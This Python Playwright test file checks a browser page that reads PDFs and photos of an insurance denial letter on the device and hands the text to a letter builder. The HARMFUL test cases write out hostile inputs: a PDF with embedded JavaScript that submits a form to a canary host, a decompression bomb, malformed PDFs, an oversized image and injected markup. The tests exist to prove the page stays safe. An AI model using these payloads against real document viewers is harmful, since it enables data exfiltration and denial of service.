"""The reader page: it locks, reads PDFs and photos on the device, says plainly what it cannot read, and hands the text over."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass

import pytest
from playwright.sync_api import BrowserContext, FilePayload, Page

from scripts.serve import Host
from tests.axe import violations
from tests.browser import careful, harmful, samples
from tests.browser.looks import CUT_OFF
from tests.browser.patience import PATIENCE_MS
from tests.browser.visits import Visit

pytestmark = pytest.mark.browser
browser = careful.browser

FORM = "#room [data-region=form]"


@dataclass
class Reader:
    """The reader page as a person has it."""

    page: Page
    said: list[str]

    def read(self, name: str, kind: str, data: bytes) -> str:
        """Choose a file; what the page says when it is done with it."""
        return self._chosen([{"name": name, "mimeType": kind, "buffer": data}])

    def read_all(self, photos: Mapping[str, bytes]) -> str:
        """Choose several photos at once."""
        return self._chosen([{"name": name, "mimeType": "image/jpeg", "buffer": data} for name, data in photos.items()])

    def _chosen(self, files: Sequence[FilePayload]) -> str:
        self.page.evaluate("() => { document.getElementById('status').textContent = ''; }")
        self.page.locator("#files").set_input_files(files)
        done = "() => !document.getElementById('files').disabled && !/^(Reading|$)/.test(document.getElementById('status').textContent)"
        self.page.wait_for_function(done, timeout=PATIENCE_MS)
        return self.page.locator("#status").inner_text()

    def texts(self) -> list[str]:
        """The text of each page."""
        return [field.input_value() for field in self.page.locator("#pages textarea").all()]


@pytest.fixture
def reader(context: BrowserContext, ours: Host) -> Reader:
    page = context.new_page()
    page.set_default_timeout(PATIENCE_MS)
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.goto(f"{ours.address}reader/")
    page.locator("html[data-reader=ready]").wait_for(timeout=PATIENCE_MS)
    ours.forget()
    return Reader(page, said)


def test_a_pdf_is_read_page_by_page_nothing_is_requested_and_without_a_builder_it_is_not_handed_over(reader: Reader, ours: Host) -> None:
    assert "2 pages read" in reader.read("letter.pdf", "application/pdf", samples.pdf_of([samples.LETTER, "The second page."]))
    first, second = reader.texts()
    assert first.startswith("Harbor & Pine Health Insurance Company\nUtilization Management Department\n")
    assert "is considered experimental and investigational." in " ".join(first.split())
    assert second.strip() == "The second page."
    assert violations(reader.page) == []
    reader.page.emulate_media(media="print")
    assert all(text.is_visible() for text in reader.page.locator("#pages textarea").all())
    assert reader.page.evaluate(CUT_OFF) == []
    assert reader.page.locator("header, footer, button, progress, #status, label:has(input)").filter(visible=True).count() == 0
    reader.page.emulate_media(media="screen")
    reader.page.locator("#hand").click()
    reader.page.get_by_text("No letter builder answered").wait_for()
    assert ours.log == []
    assert reader.said == []


def test_a_photo_is_read_whichever_way_it_was_taken(reader: Reader, ours: Host) -> None:
    """Also askew, as every photo from the hand is: its lines then lie in no row, and the edge of the sheet must not be taken for them."""
    for turn in (0, -5, 94, 180, 266):
        assert "1 page read" in reader.read("p.jpg", "image/jpeg", samples.jpeg(samples.on_a_table(samples.page_image(), turn)))
        (text,) = reader.texts()
        words = " ".join(text.split())
        assert "HPX204918837" in words, turn
        assert "intravenous ketamine for depression is considered experimental and investigational" in words, turn
    assert ours.log == []


BAR = """() => {
  const bar = document.getElementById("reading");
  self.parts = [];
  new MutationObserver(() => parts.push(bar.value)).observe(bar, { attributes: true });
}"""


def test_the_bar_moves_on_while_one_photo_is_read_and_never_back(reader: Reader) -> None:
    reader.page.evaluate(BAR)
    reader.read("p.jpg", "image/jpeg", samples.jpeg(samples.on_a_table(samples.page_image(), 180)))
    parts = reader.page.evaluate("parts")
    assert parts == sorted(parts)
    assert len({part for part in parts if 0.3 < part < 1}) > 3


def test_a_dim_photo_and_a_scan_are_read_and_a_blurred_photo_says_what_to_do(reader: Reader) -> None:
    assert "1 page read" in reader.read("dim.jpg", "image/jpeg", samples.jpeg(samples.dim(samples.page_image())))
    assert "considered experimental and investigational" in " ".join(reader.texts()[0].split())
    assert "too blurred or too dark" in reader.read("far.jpg", "image/jpeg", samples.jpeg(samples.blurred(samples.page_image())))
    assert "1 page read" in reader.read("scan.pdf", "application/pdf", samples.scanned_pdf(samples.page_image()))
    assert "considered experimental and investigational" in " ".join(reader.texts()[0].split())


def test_one_bad_photo_costs_nobody_the_others_and_a_short_last_page_is_a_page(reader: Reader) -> None:
    letter, short = (
        samples.jpeg(samples.page_image()),
        samples.jpeg(samples.page_image("Sincerely,\n\nTheodora Blunk, MD\nMedical Director")),
    )
    far = samples.jpeg(samples.blurred(samples.page_image()))
    said = reader.read_all({"1.jpg": letter, "2.jpg": far, "3.jpg": short})
    assert "Not read: page 2. It is too blurred, too dark or empty" in said
    first, second, third = reader.texts()
    assert "HPX204918837" in first
    assert second == ""
    assert "Medical Director" in third
    assert reader.page.locator("progress:visible").count() == 0


UNREADABLE = (
    (samples.pdf_of(["A locked page."], lock="let me in"), "locked with a password"),
    (b"%PDF-1.7\nnot really" * 20, "damaged or is no PDF"),
    (b"", "could not be read"),
    (b"plain words", "could not be read"),
)


def test_what_cannot_be_read_gets_one_plain_sentence(reader: Reader) -> None:
    for data, said in UNREADABLE:
        kind = "application/pdf" if data.startswith(b"%PDF") else "image/jpeg"
        assert said in reader.read("file", kind, data)
    # Half a gigabyte is refused at once.
    reader.page.evaluate(
        """() => {
          const files = new DataTransfer();
          const file = new File(["%PDF-1.7"], "big.pdf", { type: "application/pdf" });
          Object.defineProperty(file, "size", { value: 500 * 1024 * 1024 });
          files.items.add(file);
          const input = document.getElementById("files");
          Object.defineProperty(input, "files", { value: [file], configurable: true });
          input.dispatchEvent(new Event("change", { bubbles: true }));
        }"""
    )
    reader.page.get_by_text("too large to read here").wait_for()


DENIED = f"We deny this request for ketamine. {harmful.MARKUP}"
PROGRAM = "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://127.0.0.2/canary'\\))>>"
HARMFUL = (
    # 65 kilobytes that unpack to 64 megabytes of nothing.
    ("application/pdf", harmful.pdf(harmful.unpacking_to(64)), "too blurred or too dark"),
    ("application/pdf", harmful.pdf(harmful.words("hi"), kids="2 0 R"), "damaged or is no PDF"),
    ("application/pdf", harmful.pdf(harmful.words("hi"), box="0 0 10000000 10000000"), "too blurred or too dark"),
    ("image/png", harmful.png(40_000), "could not be read"),
    ("application/pdf", harmful.pdf(harmful.words(DENIED), catalog=PROGRAM), "1 page read"),
)


def test_a_paper_that_was_made_to_do_harm_is_refused_with_a_sentence_or_is_words_alone(reader: Reader, ours: Host, other: Host) -> None:
    for kind, data, said in HARMFUL:
        assert said in reader.read("file", kind, data)
    assert reader.texts() == [f"{DENIED}\n"]
    assert "owned" not in reader.page.title()
    assert [*ours.log, *other.log, *reader.said] == []


def test_the_text_is_handed_to_the_builder_in_the_other_tab_and_asked_what_it_is(
    reader: Reader, visit: Visit, ours: Host, other: Host
) -> None:
    visit.open()
    ours.forget()
    reader.read("letter.pdf", "application/pdf", samples.pdf_of([f"{harmful.MARKUP}\n{samples.LETTER}"]))
    reader.page.locator("#hand").click()
    reader.page.get_by_text("The letter builder has the text").wait_for()
    arrived = visit.page.locator("[data-take-paper='denial.text']")
    arrived.wait_for()
    assert visit.page.locator("[name='denial.text']").input_value() == ""
    found = violations(visit.page, FORM)
    arrived.click()
    visit.page.locator(".find__use").first.wait_for()
    text = visit.page.locator("[name='denial.text']").input_value()
    assert "HPX204918837" in text
    assert harmful.MARKUP in text
    assert "owned" not in visit.page.title()
    visit.page.locator(".find").first.scroll_into_view_if_needed()
    visit.page.locator(".sight__mark").first.wait_for(timeout=PATIENCE_MS)
    assert found + violations(visit.page, FORM) == []
    assert [*ours.log, *other.log] == []
